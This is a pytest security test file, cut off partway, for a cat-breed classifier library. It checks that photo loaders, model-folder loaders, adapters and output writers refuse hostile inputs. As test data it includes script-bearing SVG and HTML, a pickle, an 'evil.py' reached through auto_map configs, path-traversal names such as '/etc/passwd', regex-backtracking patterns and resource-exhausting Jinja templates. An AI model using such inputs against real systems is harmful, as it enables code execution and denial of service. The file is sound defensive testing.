"""Files, URLs and ports that mean harm, or that an accident has left: nothing is run, nothing lost, and what is wrong is said."""

import ast
import errno
import hashlib
import io
import json
import logging
import os
import re
import resource
import shutil
import socket
import subprocess
import sys
import time
from contextlib import contextmanager, redirect_stderr, redirect_stdout, suppress
from pathlib import Path

import nbformat
import numpy as np
import pytest
import torch
from evaluation_cases import make_set, truth, write_set
from nbformat.v4 import new_code_cell, new_notebook, new_output
from photo_makers import encoded, fill, jpeg, picture
from safetensors.torch import load_file
from tiny_encoders import clip, save_llava, tuned, write_photos
from tiny_models import write_dataset

from catlib.classifiers.base import Batch, Classifier
from catlib.classifiers.endpoint import EndpointClassifier
from catlib.classifiers.predict import predict
from catlib.cli import main
from catlib.data.findings import Finding, read_audit, write_audit
from catlib.data.images import inside, open_image, size_of
from catlib.data.records import Sample, meta_path, read_predictions
from catlib.errors import CatlibError, InputError
from catlib.files import (
    appending,
    csv_text,
    locked,
    parse_json,
    read_csv,
    read_json,
    read_jsonl,
    read_text,
    remove_leftovers,
    saving,
    write_json,
    write_text,
)
from catlib.folders import whole_folder
from catlib.paths import public_url, without_secrets
from catlib.serving.engine_process import Command, free_port, refuse_taken_port
from catlib.serving.export import is_export
from catlib.settings import EvaluationSettings, ServingSettings, TrainSettings, parse_assignment, read_profile
from catlib.training.arguments import further_options
from catlib.training.run import _with_digests
from catlib.vlm import processors
from catlib.vlm.adapters import check_weights, load_adapter
from catlib.vlm.checkpoint import find_checkpoint, open_vlm
from catlib.vlm.features import FrozenFeatures
from catlib.vlm.processors import from_files

pytestmark = pytest.mark.slow  # hundreds of cases, half a minute in all
ROOT = Path(__file__).parent.parent
SOURCES = [path for folder in ("catlib", "demo", "examples") for path in sorted((ROOT / folder).rglob("*.py"))]
BREEDS = ("Manx", "Persian", "Siamese")


def calls(path: Path) -> list[ast.Call]:
    return [node for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))) if isinstance(node, ast.Call)]


def cells() -> str:
    books = [json.loads(path.read_text(encoding="utf-8")) for path in (ROOT / "notebooks").glob("*.ipynb")]
    return "\n".join("".join(cell["source"]) for book in books for cell in book["cells"])


# 1: photos


def test_every_photo_goes_through_the_one_opener():
    openers = [
        f"{path.relative_to(ROOT)}:{call.lineno}"
        for path in SOURCES
        for call in calls(path)
        if ast.unparse(call.func).rsplit(".", 1)[-1] in ("imread", "load_image", "imopen", "decode_image", "read_image")
        or ast.unparse(call.func) in ("Image.open", "PIL.Image.open", "open_image_file")
    ]
    figures = (
        "catlib/reports/markup.py"  # makes the figures of executed notebooks smaller, from a list of formats of its own
    )
    assert [place.split(":")[0] for place in openers] == ["catlib/data/images.py", figures]
    assert "formats=PICTURES" in (ROOT / figures).read_text(encoding="utf-8")
    assert "Image.open" not in cells() and "imread" not in cells()


FOREIGN = {
    "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n{} loop\n",
    "eps in a binary wrapper": b"\xc5\xd0\xd3\xc6" + bytes(28) + b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
    "pdf": b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "psd": b"8BPS\x00\x01" + bytes(60),
    "wmf": b"\xd7\xcd\xc6\x9a\x00\x00" + bytes(60),
    "xbm": b"#define im_width 9\n#define im_height 9\nstatic char im_bits[] = {0};",
    "xpm": b'/* XPM */\nstatic char *x[] = {"1 1 1 1", "a c #fff", "a"};',
    "fli": bytes(4) + b"\x11\xaf" + bytes(128),
    "mpo header only": b"\xff\xd8\xff\xe2\x00\x08MPF\x00II",
    "html": b"<html><script>alert(1)</script></html>",
    "shell": b"#!/bin/sh\ntouch pwned\n",
    "pickle": b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94.",
    "zip": b"PK\x03\x04" + bytes(64),
    "empty": b"",
    "zeros": bytes(4096),
    "png of 2,000,000,000 pixels": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\xc3\x50\x00\x00\x9c\x40\x08\x02\x00\x00\x00"
    + bytes(8),
    "half a jpeg": jpeg(1)[:400],
    "half a png": encoded(picture(1), "PNG")[:200],
    **{
        kind.lower(): encoded(picture(1), kind)
        for kind in ("PPM", "ICO", "TGA", "PCX", "SGI", "DDS", "IM", "MSP"[:0] or "ICNS")
    },
}


@pytest.mark.parametrize("kind", FOREIGN)
def test_what_is_no_photo_is_refused_and_starts_no_program(tmp_path, monkeypatch, kind):
    def started(*_, **__):
        raise AssertionError("a program was started")

    for name in ("Popen", "run", "check_call", "call", "check_output"):
        monkeypatch.setattr(subprocess, name, started)
    monkeypatch.setattr(os, "system", started)
    photo = tmp_path / "cat.jpg"
    photo.write_bytes(FOREIGN[kind])
    with pytest.raises(InputError, match="cat.jpg"):
        open_image(photo)


@pytest.mark.parametrize("kind", ["folder", "pipe", "socket", "device", "gone", "circle"])
def test_what_is_no_file_is_refused_and_not_waited_for(tmp_path, kind):
    path = tmp_path / "cat.jpg"
    with socket.socket(socket.AF_UNIX) as server:
        if kind == "folder":
            path.mkdir()
        elif kind == "pipe":
            os.mkfifo(path)
        elif kind == "socket":
            os.chdir(tmp_path)
            server.bind("cat.jpg")
            os.chdir(ROOT)
        elif kind != "gone":
            path.symlink_to("/dev/zero" if kind == "device" else "cat.jpg")
        for read in (open_image, size_of, read_text, read_json, read_csv, read_profile, lambda p: list(read_jsonl(p))):
            with pytest.raises(InputError, match="cat.jpg"):
                read(path)


@pytest.mark.parametrize("name", ["a\0b", "x" * 5000, "../out.jpg", "/etc/passwd", "a/../../b", "circle/x"])
def test_a_photos_path_stays_in_its_root(tmp_path, name):
    (tmp_path / "circle").symlink_to("circle")
    with pytest.raises(InputError):
        inside(tmp_path, name)


# 2: code


def test_no_model_is_loaded_but_through_from_files():
    for path in SOURCES:
        for call in calls(path):
            name = getattr(call.func, "attr", "")
            if name in ("from_pretrained", "from_config", "for_model", "pipeline") and path.parts[-3] != "demo":
                trust = [word.value for word in call.keywords if word.arg == "trust_remote_code"]
                told = trust and isinstance(trust[0], ast.Constant) and trust[0].value is False
                assert told or name == "for_model", (
                    f"{path}:{call.lineno}"
                )  # for_model takes classes of transformers' alone
            if any(word.arg == "weights_only" or word.arg == "allow_pickle" for word in call.keywords):
                assert "True" not in ast.unparse(call).partition("allow_pickle=")[2][:5]
            assert ast.unparse(call.func) not in (
                "torch.load",
                "pickle.load",
                "pickle.loads",
                "joblib.load",
                "eval",
                "exec",
            )


CODE = [
    ("config.json", {"model_type": "llava", "auto_map": {"AutoConfig": "evil.Config"}}),
    ("config.json", {"model_type": "llava", "text_config": {"auto_map": {"AutoConfig": "evil.Config"}}}),
    ("config.json", {"model_type": "llava", "parts": [[{"auto_map": {"AutoModel": "owner/other--evil.Model"}}]]}),
    ("config.json", {"model_type": "llava", "attn_implementation": "owner/kernel"}),
    ("config.json", {"vision_config": {"_attn_implementation": "owner/kernel@main:fn"}}),
    ("config.json", {"model_type": "llava", "custom_pipelines": {"x": {"impl": "evil.Pipe"}}}),
    ("tokenizer_config.json", {"auto_map": {"AutoTokenizer": ["evil.Tok", None]}}),
    ("preprocessor_config.json", {"auto_map": {"AutoImageProcessor": "evil.Images"}}),
    ("processor_config.json", {"auto_map": {"AutoProcessor": "evil.Processor"}}),
    ("processor_config.json", {"image_processor": {"auto_map": {"AutoImageProcessor": "evil.Images"}}}),
    ("video_preprocessor_config.json", {"auto_map": {"AutoVideoProcessor": "evil.Video"}}),
    ("generation_config.json", {"auto_map": {"x": "evil.G"}}),
    ("adapter_config.json", {"auto_map": {"x": "evil.G"}}),
]


@pytest.mark.parametrize(("name", "content"), CODE)
def test_a_folder_that_names_code_is_refused(tmp_path, name, content):
    class Kind:
        @staticmethod
        def from_pretrained(ref, **options):
            raise AssertionError("loaded")

    (tmp_path / "evil.py").write_text("open('pwned', 'w')")
    (tmp_path / name).write_text(json.dumps(content))
    with pytest.raises(InputError, match=rf"{name}: the entry '.*' asks for Python code.*never runs"):
        from_files(Kind, str(tmp_path))


@pytest.mark.parametrize("content", [{}, {"auto_map": None}, {"auto_map": {}}, {"attn_implementation": "sdpa"}])
def test_a_folder_without_code_is_loaded_and_trusted_with_none(tmp_path, content):
    class Kind:
        @staticmethod
        def from_pretrained(ref, **options):
            return ref, options

    (tmp_path / "config.json").write_text(json.dumps(content))
    assert from_files(Kind, str(tmp_path), dtype=1) == (str(tmp_path), {"trust_remote_code": False, "dtype": 1})


@pytest.fixture(scope="module")
def place(tmp_path_factory):
    """A tiny CLIP, a tiny LLaVA and an adapter of it, and photos."""
    root = tmp_path_factory.mktemp("place")
    clip(root / "clip")
    tuned(root / "tuned", save_llava(root / "llava"), BREEDS, "Which breed?")
    write_photos(root / "photos", ["Manx"] * 3)
    return root


def copied(place: Path, tmp_path: Path, name: str) -> Path:
    (tmp_path / name).mkdir()
    for path in (place / name).iterdir():
        (tmp_path / name / path.name).write_bytes(path.read_bytes())
    return tmp_path / name


@pytest.mark.parametrize("typed", ["y\n" * 20, "yes\n" * 20, ""])
@pytest.mark.parametrize("name", ["clip", "llava"])
def test_nobody_is_asked_whether_code_may_run(place, tmp_path, capfd, monkeypatch, name, typed):
    folder, pwned = copied(place, tmp_path, name), tmp_path / "pwned"
    config = json.loads((folder / "config.json").read_text())
    config |= {"model_type": "hostile", "auto_map": {"AutoConfig": "evil.Config", "AutoModel": "evil.Model"}}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "evil.py").write_text(f"open({str(pwned)!r}, 'w').close()\n")
    (tmp_path / "typed").write_text(typed)
    model = ["--model", f"clip:{folder}"] if name == "clip" else ["--model", "base", "--base-model", str(folder)]
    with (tmp_path / "typed").open() as stream:
        monkeypatch.setattr(sys, "stdin", stream)
        assert main(["predict", *model, "--breeds", ",".join(BREEDS), str(place / "photos")]) == 2
    assert "auto_map" in capfd.readouterr().err and not pwned.exists()


# 3: claimed digests and cached features


@pytest.mark.parametrize("claim", ["a" * 64, "A" * 64, "", None, "no digest", 5, [1]])
def test_a_claimed_digest_is_compared_with_the_photo(place, claim):
    about = {"breed": "Manx"} if claim is None else {"breed": "Manx", "sha256": claim}
    sample = Sample("a", "000.jpg", (), about)
    if isinstance(claim, str) and len(claim) == 64:
        with pytest.raises(InputError, match="000.jpg.*metadata.sha256"):
            _with_digests([sample], place / "photos")
    else:
        (found,) = _with_digests([sample], place / "photos")
        assert found.metadata["sha256"] == hashlib.sha256((place / "photos" / "000.jpg").read_bytes()).hexdigest()


def test_features_are_kept_by_the_bytes_decoded_and_a_damaged_entry_is_computed_again(place, tmp_path):
    cache = FrozenFeatures(open_vlm(find_checkpoint(place / "llava"), precision="float32"), tmp_path / "cache", 1.0)
    photos = sorted((place / "photos").glob("*.jpg"))
    digests = [hashlib.sha256(path.read_bytes()).hexdigest() for path in photos]
    cache.fill([(path, f"claim {i}") for i, path in enumerate(photos)])
    assert cache.get("claim 0") is None
    kept = [cache.get(digest) for digest in digests]
    assert None not in kept and not torch.equal(kept[0].vectors, kept[1].vectors)
    entry = cache.folder / f"{digests[0]}.safetensors"
    data = entry.read_bytes()
    rng = np.random.default_rng(0)
    for at in (len(data) - 1, *rng.integers(len(data), size=25)):
        changed = bytearray(data)
        changed[at] ^= 1 << int(rng.integers(8))
        entry.write_bytes(changed)
        found = cache.get(digests[0])  # a bit of the header may mean nothing
        assert found is None or torch.equal(found.vectors, kept[0].vectors)
    for other in (b"", data[:-1], data + b"x", (cache.folder / f"{digests[1]}.safetensors").read_bytes()):
        entry.write_bytes(other)
        assert cache.get(digests[0]) is None
        cache.fill([(photos[0], digests[0])])
        assert torch.equal(cache.get(digests[0]).vectors, kept[0].vectors)
    leftover = cache.folder / f".{entry.name}.writing-1234.safetensors"
    leftover.write_bytes(b"x")
    FrozenFeatures(cache.vlm, tmp_path / "cache", 1.0)
    assert leftover.exists()  # another training may be writing it
    os.utime(leftover, (0, 0))
    FrozenFeatures(cache.vlm, tmp_path / "cache", 1.0)
    assert not leftover.exists()


# 4: adapters


def test_every_flipped_bit_of_an_adapter_is_told(place, tmp_path):
    folder = copied(place, tmp_path, "tuned")
    weights = folder / "adapter_model.safetensors"
    data = weights.read_bytes()
    check_weights(folder)
    rng = np.random.default_rng(0)
    for place_of in (0, 9, len(data) - 1, *map(int, rng.integers(len(data), size=60))):
        changed = bytearray(data)
        changed[place_of] ^= 1 << int(rng.integers(8))
        weights.write_bytes(changed)
        with pytest.raises(InputError, match="adapter_model.safetensors is not what the training wrote"):
            check_weights(folder)
    for changed in (data[:-1], data + b"\0", b""):
        weights.write_bytes(changed)
        with pytest.raises(InputError, match="adapter_model.safetensors is not what"):
            check_weights(folder)


def test_a_damaged_adapter_answers_nothing_and_a_foreign_one_is_read(place, tmp_path, capsys):
    folder = copied(place, tmp_path, "tuned")
    weights = folder / "adapter_model.safetensors"
    data = bytearray(weights.read_bytes())
    data[-1] ^= 1
    weights.write_bytes(data)
    command = ["predict", "--checkpoint", str(folder), str(place / "photos")]
    assert main(command) == 2
    assert "is not what the training wrote" in capsys.readouterr().err
    (folder / "adapter_model.safetensors.sha256").unlink()  # as other tools leave an adapter
    assert main(command) == 0


def test_weights_that_a_kill_left_between_digest_and_weights_are_good(place, tmp_path, monkeypatch):
    from catlib.vlm import adapters

    folder = copied(place, tmp_path, "tuned")
    vlm = open_vlm(place / "llava", precision="float32")
    load_adapter(vlm, folder, trainable=True)
    for name, parameter in vlm.model.named_parameters():
        if "lora_B" in name:
            parameter.data += 1
    kept = load_file(folder / "adapter_model.safetensors")
    with monkeypatch.context() as patch:
        patch.setattr(adapters, "write_bytes", lambda *_: (_ for _ in ()).throw(KeyboardInterrupt))
        with pytest.raises(KeyboardInterrupt):
            adapters.save_adapter(vlm, folder)
    check_weights(folder)  # the former ones
    adapters.save_adapter(vlm, folder)
    check_weights(folder)
    assert any((kept[name] != tensor).any() for name, tensor in load_file(folder / "adapter_model.safetensors").items())
    for _ in range(3):
        adapters.save_adapter(vlm, folder)
    assert len((folder / "adapter_model.safetensors.sha256").read_text().split()) == 2


@pytest.mark.parametrize(
    "change",
    [{"r": "many"}, {"peft_type": "NONE"}, {"r": -1}, {"task_type": "x"}, {"lora_alpha": []}],
)
def test_an_adapter_config_of_nonsense_is_refused(place, tmp_path, change):
    folder = copied(place, tmp_path, "tuned")
    write_json(folder / "adapter_config.json", read_json(folder / "adapter_config.json") | change)
    vlm = open_vlm(place / "llava", precision="float32")
    with pytest.raises(InputError, match="adapter_config.json|does not fit"):
        load_adapter(vlm, folder)


# 5: budgets

LOOP = "{% for i in range(99999) %}"
TEMPLATES = {
    "loops in loops": LOOP * 5 + "{% endfor %}" * 5 + "{{ messages }}",
    "loops over a text": "{% for a in 'ab' * 40000 %}" * 4 + "{% endfor %}" * 4,
    "a power": "{{ 10 ** (10 ** 11) }}",
    "powers that grow": "{% set ns = namespace(n=9) %}" + LOOP + "{% set ns.n = ns.n * ns.n %}{% endfor %}",
    "much memory": "{{ 'a' * 100000000000 }}",
    "memory by a format": "{{ '%099999999999d' % 1 }}",
    "behind a tag of transformers'": "{% generation %}" + LOOP * 5 + "{% endfor %}" * 5 + "{% endgeneration %}",
}


@pytest.mark.parametrize("kind", TEMPLATES)
def test_a_chat_template_that_does_not_end_is_refused(place, tmp_path, monkeypatch, capsys, kind):
    monkeypatch.setattr(processors, "TRIAL_S", 3)
    folder = copied(place, tmp_path, "llava")
    (folder / "chat_template.jinja").write_text(TEMPLATES[kind])
    words = ["--model", "base", "--base-model", str(folder), "--breeds", ",".join(BREEDS)]
    assert main(["predict", *words, str(place / "photos")]) == 2
    assert "chat template" in capsys.readouterr().err


@pytest.mark.parametrize("pattern", ["(a+)+$", "(a|aa)+$", "((a+)b?)+$", "(?:a*)*$", "a*a*a*a*a*a*a*a*a*a*a*$"])
def test_a_tokenizers_pattern_that_does_not_end_is_refused(place, tmp_path, monkeypatch, pattern):
    monkeypatch.setattr(processors, "TRIAL_S", 3)
    folder = copied(place, tmp_path, "llava")
    facts = json.loads((folder / "tokenizer.json").read_text())
    split = {"type": "Split", "pattern": {"Regex": pattern}, "behavior": "Isolated", "invert": False}
    (folder / "tokenizer.json").write_text(json.dumps(facts | {"pre_tokenizer": split}))
    assert processors.is_doubtful(pattern)
    try:
        processors.load_processor(str(folder))
    except InputError as error:
        assert "tokenizer" in str(error)
    else:  # the engine may have a limit of its own
        assert processors.load_processor(str(folder)).tokenizer("a" * 60 + "!")


@pytest.mark.parametrize(
    "change",
    [
        {"target_modules": "(.*)*x"},
        {"target_modules": "(a|.)+(b|.)+$x"},
        {"exclude_modules": "((.+)?)*$x"},
        {"rank_pattern": {"(.*)*x": 4}},
        {"alpha_pattern": {"(.+)+x": 4}},
        {"r": 10**9},
        {"rank_pattern": {"q_proj": 10**12}},
    ],
)
def test_an_adapter_that_would_take_for_ever_is_refused_or_loaded_without_it(place, tmp_path, change):
    folder = copied(place, tmp_path, "tuned")
    write_json(folder / "adapter_config.json", read_json(folder / "adapter_config.json") | change)
    vlm = open_vlm(place / "llava", precision="float32")
    start = time.process_time()
    with suppress(InputError):  # an expression that is not run does no harm
        load_adapter(vlm, folder)
    assert time.process_time() - start < 10


ABSURD = [
    *(("text_config", {"num_hidden_layers": n}) for n in (10**9, 10**5, 2.5, -1, "many", None, [3] * 9)),
    *(("text_config", {"hidden_size": n}) for n in (10**9, -5, 0, 1.5, "big", None, True, {})),
    *(("text_config", {"vocab_size": n}) for n in (10**12, 0, -1)),
    *(("text_config", {"num_attention_heads": n}) for n in (0, 10**8, -2)),
    *(
        ("vision_config", {name: 10**8})
        for name in ("num_hidden_layers", "image_size", "intermediate_size", "hidden_size")
    ),
    *(("vision_config", {"patch_size": n}) for n in (0, -1, "x")),
    *((None, {"model_type": name}) for name in ("nonsense", 5, None)),
    *((None, {"text_config": value}) for value in ([], 5, "llama", {"model_type": "llava"})),
]


@pytest.mark.parametrize(("part", "change"), ABSURD)
def test_a_model_of_absurd_sizes_is_refused_within_seconds(place, tmp_path, capsys, part, change):
    folder = copied(place, tmp_path, "llava")
    config = read_json(folder / "config.json")
    (config[part] if part else config).update(change)
    write_json(folder / "config.json", config)
    start = time.process_time()
    words = ["--model", "base", "--base-model", str(folder), "--breeds", ",".join(BREEDS)]
    assert main(["predict", *words, str(place / "photos")]) == 2
    assert main(["memory", "--base-model", str(folder)]) == 2
    assert time.process_time() - start < 20 and "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "text",
    [
        "lr: " + "[" * 200 + "]" * 200,
        "hint: " + "x" * 200_000,
        "lora_r: " + "9" * 400,
        "seed: -1",
        "seed: 4294967296",
        "epochs: 0",
        "batch_size: 0",
        "lora_r: 0",
        "lora_r: 1000000",
        "lora_dropout: 1.0",
        "warmup_ratio: 2",
        "lr: -1",
        "val_share: 1.5",
        "run: " + "x" * 300,
        'run: "a\\nb"',
        "num_workers: 100000",
    ],
)
def test_a_setting_out_of_range_is_refused(tmp_path, text):
    (tmp_path / "p.yaml").write_text(text)
    assert main(["memory", "--profile", str(tmp_path / "p.yaml"), "--base-model", "x"]) == 2


@pytest.mark.parametrize("deep", ['{"a":' * 101 + "1" + "}" * 101, "[" * 500 + "]" * 500, '{"a": [' * 60 + "]}" * 60])
def test_json_is_not_nested_beyond_what_a_file_needs(deep):
    with pytest.raises(InputError, match="nested too deeply"):
        parse_json(deep, "x", object)
    assert parse_json("[" * 99 + "]" * 99, "x", list) and parse_json(
        str([{"a": [1]}] * 999).replace("'", '"'), "x", list
    )


# 6: outputs


class Strongest(Classifier):
    """Names the breed of the strongest colour."""

    name, breeds, failure = "strongest", BREEDS, None

    def classify(self, images, ids=None):
        if self.failure:
            raise self.failure
        return Batch([BREEDS[int(np.asarray(image).sum((0, 1)).argmax())] for image in images])

    def describe(self):
        return {"base_model": "none"}


@pytest.fixture
def photos(tmp_path):
    return tmp_path / "photos", write_photos(tmp_path / "photos", ["Manx"] * 5)


def run(photos, out, classifier=None, **options):
    return predict(classifier or Strongest(), photos[1], photos[0], out, batch_size=1, **options)


SAMPLE = '{"id": "a", "image": "a.jpg", "conversations": [], "metadata": {"breed": "Manx"}}\n'
VALUABLE = {
    "samples": {"out.jsonl": SAMPLE},
    "samples with a foreign sidecar": {"out.jsonl": SAMPLE, "out.meta.json": '{"mine": 1}'},
    "samples with catlib's sidecar": {
        "out.jsonl": SAMPLE,
        "out.meta.json": json.dumps({"name": "out", "breeds": ["Manx"], "versions": {"python": "3", "catlib": "1"}}),
    },
    "a photo": {"out.jsonl": "\xff\xd8 a photo"},
    "text": {"out.jsonl": "my thesis\n"},
    "a list": {"out.jsonl": "[1, 2]\n"},
    "nothing but a name": {"out.jsonl": ""},
    "predictions of others": {
        "out.jsonl": '{"id": "a", "predicted": "Manx"}\n',
        "out.meta.json": '{"name": "out", "breeds": ["Manx"]}',
    },
    "predictions without a sidecar": {"out.jsonl": '{"id": "a", "predicted": "Manx"}\n'},
    "a sidecar's name alone": {"out.meta.json": "my metadata"},
    "a sidecar that is a list": {"out.meta.json": "[]", "out.jsonl": '{"id": "a"}\n'},
    "a broken sidecar": {"out.meta.json": '{"breeds": ', "out.jsonl": '{"id": "a"}\n'},
}


@pytest.mark.parametrize("resume", [True, False])
@pytest.mark.parametrize("kind", VALUABLE)
def test_predictions_replace_nothing_else(photos, tmp_path, kind, resume):
    for name, text in VALUABLE[kind].items():
        (tmp_path / name).write_text(text, encoding="latin-1")
    before = {path: path.read_bytes() for path in tmp_path.glob("out.*")}
    with pytest.raises(InputError, match="is not replaced"):
        run(photos, tmp_path / "out.jsonl", resume=resume)
    assert {path: path.read_bytes() for path in tmp_path.glob("out.*")} == before


@pytest.mark.parametrize("kind", ["folder", "pipe", "link to a photo", "link to nothing"])
def test_predictions_go_to_no_other_kind_of_file(photos, tmp_path, kind):
    out = tmp_path / "out.jsonl"
    if kind == "folder":
        out.mkdir()
    elif kind == "pipe":
        os.mkfifo(out)
    else:
        out.symlink_to(photos[0] / ("000.jpg" if kind == "link to a photo" else "gone"))
    with pytest.raises(InputError, match="is not replaced"):
        run(photos, out)


def test_the_command_refuses_before_a_model_is_loaded(place, tmp_path, capsys):
    photo = place / "photos" / "000.jpg"
    before = photo.read_bytes()
    command = ["predict", "--model", "clip:owner/unknown", str(photo), "--out"]
    for out in (photo, place / "llava" / "config.json", place / "llava", place / "tuned" / "training.json"):
        assert main([*command, str(out)]) == 2
        assert "is not replaced" in capsys.readouterr().err
    assert photo.read_bytes() == before and (place / "llava" / "config.json").is_file()


def test_its_own_predictions_are_replaced_and_continued(photos, tmp_path):
    out = tmp_path / "out.jsonl"
    first = run(photos, out)
    assert run(photos, out).predictions == first.predictions  # nothing left to do
    assert len(run(photos, out, resume=False).predictions) == 5
    whole = out.read_bytes()
    line = whole.index(b"\n") + 1
    for rest in (b"", whole[: line + 20], whole[:line] + b"\0" * 300, whole[:line] + b"\0\0\n", whole[:-3]):
        out.write_bytes(rest)
        assert [p.id for p in run(photos, out).predictions] == [sample.id for sample in photos[1]]
    out.write_bytes(whole[:line] + '{"id": "é'.encode()[:-1])  # cut inside a character
    assert len(run(photos, out).predictions) == 5
    out.unlink()
    assert len(run(photos, out).predictions) == 5


METRICS = {
    "samples": SAMPLE,
    "package.json": '{"name": "app", "version": "1.0"}',
    "models of another kind": '{"models": ["a", "b"]}',
    "models without figures": '{"models": {"a": {"path": "/x"}}}',
    "a sidecar": '{"name": "out", "breeds": ["Manx"]}',
    "comparisons of another kind": '{"comparisons": [{"left": 1}]}',
    "criteria of another kind": '{"criteria": {"a": 1}}',
    "a list": "[]",
    "text": "my thesis",
    "nothing": "",
    "a number": "1",
    "a recommendation of another kind": '{"recommendation": "buy"}',
}


@pytest.mark.parametrize("kind", METRICS)
def test_metrics_are_added_to_metrics_alone(tmp_path, capsys, kind):
    true = truth(3)
    predictions = write_set(make_set("vlm", true, true), tmp_path)
    out = tmp_path / "metrics.json"
    out.write_text(METRICS[kind])
    command = ["evaluate", "--predictions", str(predictions), "--bootstrap", "100", "--out"]
    assert main([*command, str(out)]) == 2
    assert out.read_text() == METRICS[kind] and "metrics.json" in capsys.readouterr().err


def test_metrics_never_replace_what_they_are_computed_from(tmp_path, capsys):
    true = truth(3)
    predictions = write_set(make_set("vlm", true, true), tmp_path)
    for out in (predictions, meta_path(predictions), tmp_path):
        assert main(["evaluate", "--predictions", str(predictions), "--bootstrap", "100", "--out", str(out)]) == 2
    assert len(read_predictions(predictions).predictions) == 30 and "Traceback" not in capsys.readouterr().err
    out = tmp_path / "metrics.json"
    for _ in range(2):
        assert main(["evaluate", "--predictions", str(predictions), "--bootstrap", "100", "--out", str(out)]) == 0


FOLDERS = {
    "a checkpoint": {"adapter_config.json": "{}", "adapter_model.safetensors": "x"},
    "photos": {"cat.jpg": "x"},
    "a data set": {"train.jsonl": SAMPLE},
    "a text named export.json": {"export.json": '{"my": "data"}', "mine.txt": "x"},
    "a model of others": {"config.json": "{}", "model.safetensors": "x"},
    "a repository": {".git": "x"},
}


@pytest.mark.parametrize("kind", FOLDERS)
def test_force_replaces_exports_alone(tmp_path, kind):
    out = tmp_path / "out"
    out.mkdir()
    for name, text in FOLDERS[kind].items():
        (out / name).write_text(text)
    with pytest.raises(InputError, match="was not written by this command"), whole_folder(out, True, ours=is_export):
        raise AssertionError("begun")
    assert {path.name: path.read_text() for path in out.iterdir()} == FOLDERS[kind]


def test_force_replaces_no_file_and_no_broken_record_and_an_export_it_does(tmp_path):
    (tmp_path / "file").write_text("mine")
    with pytest.raises(InputError), whole_folder(tmp_path / "file", True, ours=is_export):
        raise AssertionError("begun")
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "export.json").write_text('{"kind": ')
    with pytest.raises(InputError, match="export.json"), whole_folder(tmp_path / "out", True, ours=is_export):
        raise AssertionError("begun")
    write_json(tmp_path / "out" / "export.json", {"kind": "merged", "base_model": "b", "adapter": None})
    with whole_folder(tmp_path / "out", True, ours=is_export) as folder:
        (folder / "new").write_text("x")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["file", "out"]
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["new"]


def test_leftovers_of_a_killed_export_are_removed_and_those_at_work_are_not(tmp_path):
    (tmp_path / ".out.writing-12345678").mkdir()
    (tmp_path / ".out.writing-12345678" / "14 GB").write_text("x")
    (tmp_path / ".out.mine").mkdir()
    with whole_folder(tmp_path / "out", False) as folder:
        assert not (tmp_path / ".out.writing-12345678").exists()
        (folder / "first").write_text("x")
        with pytest.raises(InputError, match="another process writes it"), whole_folder(tmp_path / "out", False):
            raise AssertionError("begun")
        assert (folder / "first").is_file()
    assert sorted(path.name for path in tmp_path.iterdir()) == [".out.mine", "out"]


@pytest.mark.parametrize("name", ["out.jsonl", "a[1]*.jsonl", "x" * 200 + ".jsonl", "猫.jsonl"])
def test_leftovers_of_a_killed_writer_are_removed_by_the_next_one(photos, tmp_path, name):
    out, code = tmp_path / name, "import os, sys; from pathlib import Path; from catlib.files import replacing\n"
    code += "with replacing(Path(sys.argv[1])) as path: path.write_text('half'); os.kill(os.getpid(), 9)"
    (tmp_path / "mine").mkdir()
    for path in (out, meta_path(out), tmp_path / "other.jsonl", tmp_path / "mine" / name):
        subprocess.run([sys.executable, "-c", code, str(path)], check=False, cwd=ROOT)
    left = [path for path in tmp_path.rglob(".*") if "writing" in path.name]
    assert len(left) == 4 and not out.exists()
    run(photos, out)
    kept = [path for path in tmp_path.rglob(".*") if "writing" in path.name]
    assert sorted(path.parent.name for path in kept) == sorted(
        ["mine", tmp_path.name]
    )  # other files' are others' business
    remove_leftovers(tmp_path, older_s=3600)
    assert all(path.exists() for path in kept)
    remove_leftovers(tmp_path)
    assert not any(path.exists() for path in kept)


@pytest.mark.parametrize("step", ["before", "moved", "named", "done"])
def test_an_export_killed_while_it_replaces_another_leaves_one_of_both(tmp_path, step):
    """At each point between the renames; the next export finds the former or the new folder under its name, and no other."""
    out, code = (
        tmp_path / "out",
        (
            "import os, shutil, sys; from pathlib import Path; from catlib.folders import whole_folder\n"
            "step, out, real = sys.argv[1], Path(sys.argv[2]), Path.rename\n"
            "def rename(path, target):\n"
            "    before = {'before': path == out, 'moved': 'writing' in path.name}.get(step)\n"
            "    if before: os.kill(os.getpid(), 9)\n"
            "    real(path, target)\n"
            "    if step == 'named' and 'writing' in path.name: os.kill(os.getpid(), 9)\n"
            "Path.rename = rename\n"
            "if step == 'done': shutil.rmtree = lambda *_, **__: os.kill(os.getpid(), 9)\n"
            "with whole_folder(out, True) as folder: (folder / 'new').write_text('x')"
        ),
    )
    out.mkdir()
    (out / "former").write_text("x")
    ended = subprocess.run([sys.executable, "-c", code, step, str(out)], check=False, cwd=ROOT)
    assert ended.returncode == -9
    with pytest.raises(ZeroDivisionError), whole_folder(out, True):
        raise ZeroDivisionError
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert {"new", "former"} & {path.name for path in out.iterdir()} == {
        "former" if step in ("before", "moved") else "new"
    }


# 7: two at once


def test_a_second_predict_is_refused_and_a_dead_one_is_not_waited_for(photos, tmp_path):
    out = tmp_path / "out.jsonl"
    with locked(tmp_path / ".out.jsonl.lock"), pytest.raises(InputError, match="another process writes predictions"):
        run(photos, out)
    assert not out.exists()
    with pytest.raises(RuntimeError):
        run(photos, out, type("Fails", (Strongest,), {"failure": RuntimeError("dead")})())
    code = (
        "import os, sys; from pathlib import Path; from catlib.files import locked\n"
        "with locked(Path(sys.argv[1])): os.kill(os.getpid(), 9)"
    )
